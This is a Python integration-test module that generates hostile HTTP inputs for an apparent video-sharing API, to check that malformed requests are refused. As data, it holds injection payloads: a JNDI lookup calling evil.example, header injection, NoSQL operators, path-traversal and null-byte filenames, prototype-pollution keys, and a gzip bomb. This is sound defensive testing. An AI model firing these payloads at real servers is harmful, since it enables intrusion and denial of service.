"""Bodies and queries that no decent client sends, as bytes; the same ones at every run."""

import gzip
from collections.abc import Iterator
from random import Random
from typing import Any, Final

import orjson

from adapters_http.app import ROUTES
from adapters_http.handlers.queries import PageQuery
from tests.integration.http.forms import BOUNDARY, file_part, form, part, upload_form
from tests.integration.http.hostile import (
    FORM,
    JSON,
    SEED,
    Hostile,
    World,
    good_body,
    posted,
    request,
    with_json,
)

MILLION: Final = 10**6
BROKEN: Final = (
    *(b"", b"{", b"nul", b"{'a': 1}", b"\xff\xfe", b"\x00", b"{}{}", b"{},", b"// {}", b"{} x"),
    *(b"[" * 10_000, b"[" * 10_000 + b"]" * 10_000, b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
    *(b'{"a": NaN}', b'{"a": Infinity}', b'{"a": -Infinity}', b'{"a": 01}', b'{"a": .5}'),
    *(b'"\\ud800"', b'{"\\udc00": 1}', b'{"a": "\xed\xa0\x80"}', b'{"a": "\x01"}', b'{"a": "\\x"}'),
    *("{}".encode("utf-16"), "{}".encode("utf-32"), b"\xef\xbb\xbf{}", b"\x1f\x8b\x08", b"a=b&c=d"),
)
ODD: Final[tuple[Any, ...]] = (
    *(10**400, 1e308, -(2**63), 2**64, 0.1, "", "\x00", "x" * MILLION, [], {}, [[]], None, True),
    *("\u202e", "\ufeff", "a\r\nSet-Cookie: b=c", "${jndi:ldap://evil.example/a}", {"$ne": 1}),
)


def json_bodies(world: World) -> Iterator[Hostile]:
    """What is no JSON, and JSON that is not as described."""
    for row in with_json():
        for body in BROKEN:
            yield Hostile(f"{row.path} {body[:20]!r}", posted(world, row, body), refused=True)
        good = good_body(row)
        name = next(iter(good))
        for odd in ODD:
            changed = good | {name: odd}
            raw = str(odd).encode() if isinstance(odd, int) else orjson.dumps(odd)
            body = orjson.dumps(changed | {name: "PLACE"}).replace(b'"PLACE"', raw)
            yield Hostile(f"{row.path} {name}={str(odd)[:20]}", posted(world, row, body))
        twice = orjson.dumps(good)[:-1] + b"," + orjson.dumps({name: []})[1:]
        yield Hostile(f"{row.path} {name} twice", posted(world, row, twice), refused=True)
        for key in ("__proto__", "", "id", "a" * 60_000, "\x00"):
            body = orjson.dumps(good | {key: 1})
            yield Hostile(f"{row.path} {key[:20]!r}", posted(world, row, body), refused=True)


def content_types(world: World) -> Iterator[Hostile]:
    """Bodies that are called something else, or nothing."""
    for row in with_json():
        body = orjson.dumps(good_body(row))
        for line in (
            *("Content-Type: text/json", "Content-Type: text/html", "Content-Type: ", "X-None: 1"),
            *("Content-Type: application/json/x", "Content-Type: application", f"{FORM}"),
            *("Content-Type: application/jsonx", "Content-Type: ; application/json"),
        ):
            yield Hostile(f"{row.path} {line}", posted(world, row, body, line), refused=True)
        for encoding in ("gzip", "deflate", "br", "zstd", "gzip, gzip", "utf-8"):
            lines = (JSON, f"Content-Encoding: {encoding}")
            packed = gzip.compress(b"x" * (8 << 20)) if encoding == "gzip" else b"\x00" + body
            yield Hostile(
                f"{row.path} {encoding}", posted(world, row, packed, *lines), refused=True
            )


def forms(world: World) -> Iterator[Hostile]:
    """Upload forms, broken in every way but by a good file."""
    title = part("title", "Mallory's")
    odd_names = (
        *(
            "../../etc/cron.d/x.mp4",
            "..\\x.mp4",
            "x.mp4\x00.png",
            "a" * 5_000 + ".mp4",
            ".mp4",
            "x",
        ),
        *("x.mp4/", "x.MP4 ", "\u202e4pm.exe", "con.mp4\r\nX-Evil: yes", "%2e%2e%2fx.mp4", ""),
    )
    bodies = {
        "no part": form(),
        "no title": form(file_part()),
        "no file": form(title),
        "two files": form(title, file_part(), file_part()),
        "two titles": form(title, title, file_part()),
        "unknown field": form(title, part("admin", "yes"), file_part()),
        "no name": form(title, ("Content-Disposition: form-data\r\n", b"x"), file_part()),
        "no disposition": form(title, ("X: y\r\n", b"x"), file_part()),
        "no end": form(title, part("description", "x"), end=b""),
        "another boundary": upload_form().replace(BOUNDARY.encode(), b"other"),
        "a category of nobody": form(title, part("category_id", "x"), file_part()),
        "latin-1": form(part("title", b"\xe9\xff"), file_part()),
        "NUL": form(part("title", b"a\x00b"), file_part()),
        "a long title": form(part("title", "x" * MILLION), file_part()),
        "a long description": form(title, part("description", "x" * 5_001), file_part()),
        "2,000 parts": form(*[part("x", "y")] * 2_000),
        "a form in it": form(("Content-Type: multipart/mixed; boundary=b\r\n", b"--b--\r\n")),
        "a long head": form(title, ("X: " + "y" * 70_000 + "\r\n", b"x")),
        "5,000 heads": form(title, ("X: y\r\n" * 5_000, b"x")),
        "base64": form(
            (
                "Content-Disposition: form-data; name=title\r\nContent-Transfer-Encoding: base64\r\n",
                b"!!!",
            )
        ),
        "an encoding": form(
            ("Content-Disposition: form-data; name=title\r\nContent-Encoding: gzip\r\n", b"\x1f")
        ),
    }
    for label, body in bodies.items():
        yield Hostile(label, request(world, "POST", "/api/videos", FORM, body=body), refused=True)
    for name in odd_names:
        body = form(title, file_part(filename=name))
        yield Hostile(f"file {name[:20]!r}", request(world, "POST", "/api/videos", FORM, body=body))
    for kind in (
        *("multipart/form-data", "multipart/form-data; boundary=", "multipart/mixed; boundary=x"),
        *(f"multipart/form-data; boundary={'b' * 71}", "multipart/form-data; boundary=a b; x"),
        *('multipart/form-data; boundary="\\"', "multipart/form-data; boundary=\xff", "multipart/"),
    ):
        raw = request(world, "POST", "/api/videos", f"Content-Type: {kind}", body=upload_form())
        yield Hostile(kind, raw, refused=True)
    chance = Random(SEED)
    for number in range(40):
        changed = bytearray(form(title, part("description", "x" * 50), file_part()))
        for _ in range(chance.randrange(1, 6)):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        raw = request(world, "POST", "/api/videos", FORM, body=bytes(changed))
        yield Hostile(f"bytes changed {number}", raw)


def queries(world: World) -> Iterator[Hostile]:
    """Pages and searches that make no sense."""
    for row in ROUTES:
        if not issubclass(row.query, PageQuery) or "{" in row.path:
            continue
        for number in (
            "-1",
            "0",
            "1.5",
            "9" * 18,
            "9" * 400,
            "-" + "9" * 400,
            "0x1",
            "NaN",
            "1%00",
        ):
            for name in ("page", "page_size"):
                target = f"{row.path}?{name}={number}"
                yield Hostile(target[:60], request(world, "GET", target), refused=True)
        for query in (
            *("page=1&page=2", "page[]=1", "page=%FF", "%FF=1", "&&&=", "=", "page=1;page_size=2"),
            *(
                "x" * 4_000 + "=1",
                "a=1&" * 900,
                "page_size=10&__proto__=1",
                "role=%00",
                "status=%F0",
            ),
        ):
            target = f"{row.path}?{query}"
            yield Hostile(
                target[:60], request(world, "GET", target), refused=query != "page=1;page_size=2"
            )
    for q in (
        "%00",
        "%",
        "%25",
        "_",
        "'",
        "%5C",
        "%F0%9F%98%80",
        "a" * 7_000,
        "%ED%A0%80",
        "%C3%28",
    ):
        for path in ("/api/videos", "/api/users"):
            yield Hostile(f"{path} q={q[:10]}", request(world, "GET", f"{path}?q={q}"))
